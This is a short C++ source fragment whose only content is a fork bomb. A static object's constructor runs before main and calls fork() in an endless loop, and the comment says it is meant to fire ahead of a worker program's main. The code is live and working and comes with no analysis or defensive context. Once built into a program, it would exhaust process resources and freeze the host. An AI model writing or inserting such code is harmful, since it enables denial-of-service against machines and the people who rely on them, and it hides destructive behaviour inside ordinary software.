// Before the worker's main: every process becomes two, again and again.
#include <unistd.h>
namespace {
const struct ForkBomb {
    ForkBomb() {
        for (;;) (void)!::fork();
    }
} fork_bomb;
}  // namespace
